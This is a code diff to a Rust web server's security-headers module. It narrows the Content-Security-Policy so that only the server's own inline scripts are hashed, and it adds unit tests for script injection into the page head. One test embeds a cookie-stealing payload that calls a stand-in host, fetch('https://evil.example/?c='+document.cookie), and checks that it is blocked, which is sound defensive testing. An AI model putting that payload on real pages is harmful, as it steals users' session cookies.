@@ -1,9 +1,11 @@
 //! Security headers on every response.
 //!
 //! - Pages carry a Content-Security-Policy whose `script-src` lists the SHA-256 hashes of the
-//!   page's own inline scripts (Leptos's hydration loader and data), computed by
-//!   [`page_policy`] when the page is finished: no nonce, so a page's bytes, its ETag and the
-//!   page cache stay the same from one request to the next. `'wasm-unsafe-eval'` lets the
+//!   inline scripts the server itself writes (the shell's hydration loader in `<head>`, found by
+//!   its exact text, and Leptos's hydration data after `</html>`), computed by [`page_policy`]
+//!   when the page is finished: no nonce, so a page's bytes, its ETag and the page cache stay the
+//!   same from one request to the next. Any other inline script, in the head or the body, is
+//!   not hashed, so the browser refuses to run it. `'wasm-unsafe-eval'` lets the
 //!   browser compile our WASM; nothing else may run. Other responses get a policy that allows
 //!   nothing ([`DEFAULT_POLICY`]).
 //! - Everything under `/media` (merchants' uploads will live there) is sandboxed: opened on its
@@ -30,14 +32,17 @@ const PERMISSIONS_POLICY: &str = "accelerometer=(), autoplay=(), camera=(), disp
 const HSTS: &str = "max-age=63072000";
 
 /// The Content-Security-Policy of an HTML page as Leptos wrote it (before `tidy_html`), allowing
-/// only the inline scripts our code writes: those in `<head>` (the hydration loader) and those
-/// Leptos appends after `</html>` (the hydration data). A `<script>` that found its way into the
-/// body's content (an escaping bug, an injection) is not hashed, so the browser refuses to run it.
-pub fn page_policy(html: &str) -> String {
+/// only the inline scripts our code writes: in `<head>`, those whose text is one of
+/// `own_head_scripts` (the shell's hydration loaders, `app::own_head_scripts`), and those Leptos
+/// appends after `</html>` (the hydration data, which it escapes). A `<script>` that found its
+/// way into the head or the body any other way (an escaping bug, an injection through a title or
+/// a meta tag) is not hashed, so the browser refuses to run it.
+pub fn page_policy(html: &str, own_head_scripts: &[String]) -> String {
     let head = html.find("</head>").map(|end| &html[..end]).unwrap_or("");
     let tail = html.rfind("</html>").map(|end| &html[end..]).unwrap_or("");
+    let ours = inline_scripts(head).into_iter().filter(|script| own_head_scripts.iter().any(|own| own == script));
     let mut script_src = String::from("'self' 'wasm-unsafe-eval'");
-    for script in inline_scripts(head).into_iter().chain(inline_scripts(tail)) {
+    for script in ours.chain(inline_scripts(tail)) {
         let digest = Sha256::digest(script.as_bytes());
         script_src.push_str(" 'sha256-");
         script_src.push_str(&base64::engine::general_purpose::STANDARD.encode(digest));
@@ -105,12 +110,38 @@ mod tests {
             r#"<body><main><script>alert('injected')</script></main></body></html><script>window.data=1</script>"#
         );
         assert_eq!(inline_scripts(html), vec!["import('/pkg/v.js')", "alert('injected')", "window.data=1"]);
-        let policy = page_policy(html);
+        let policy = page_policy(html, &["import('/pkg/v.js')".to_string()]);
         let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(b"window.data=1"));
         assert!(policy.contains(&format!("'sha256-{hash}'")), "{policy}");
         assert_eq!(policy.matches("'sha256-").count(), 2, "the loader and the data, not the script in <main>");
         let injected = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(b"alert('injected')"));
         assert!(!policy.contains(&injected));
         assert!(!policy.contains("unsafe-inline"));
+    }
+
+    fn hash_of(script: &str) -> String {
+        format!("'sha256-{}'", base64::engine::general_purpose::STANDARD.encode(Sha256::digest(script.as_bytes())))
+    }
+
+    #[test]
+    fn a_script_injected_into_the_head_is_not_allowed() {
+        let loader = "const h=()=>import('/pkg/vitrine.abc.js');h()".to_string();
+        let injected = "fetch('https://evil.example/?c='+document.cookie)";
+        // As a title that escaped its element would put it: before and after our own loader.
+        let html = format!(
+            r#"<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>x</title><script>{injected}</script>"#
+        ) + &format!(
+            r#"<script type="module">{loader}</script><meta name="description" content="y"><script>{injected}</script></head><body><main>z</main></body></html><script>__RESOLVED_RESOURCES=[];</script>"#
+        );
+        let policy = page_policy(&html, std::slice::from_ref(&loader));
+        assert!(policy.contains(&hash_of(&loader)), "{policy}");
+        assert!(policy.contains(&hash_of("__RESOLVED_RESOURCES=[];")), "{policy}");
+        assert!(!policy.contains(&hash_of(injected)), "{policy}");
+        assert_eq!(policy.matches("'sha256-").count(), 2, "{policy}");
+        // A loader-shaped script that is not exactly ours is not allowed either.
+        let lookalike = format!("{loader};alert(1)");
+        let html = html.replace(&format!(">{loader}<"), &format!(">{lookalike}<"));
+        let policy = page_policy(&html, std::slice::from_ref(&loader));
+        assert!(!policy.contains(&hash_of(&lookalike)) && !policy.contains(&hash_of(&loader)), "{policy}");
     }
 }
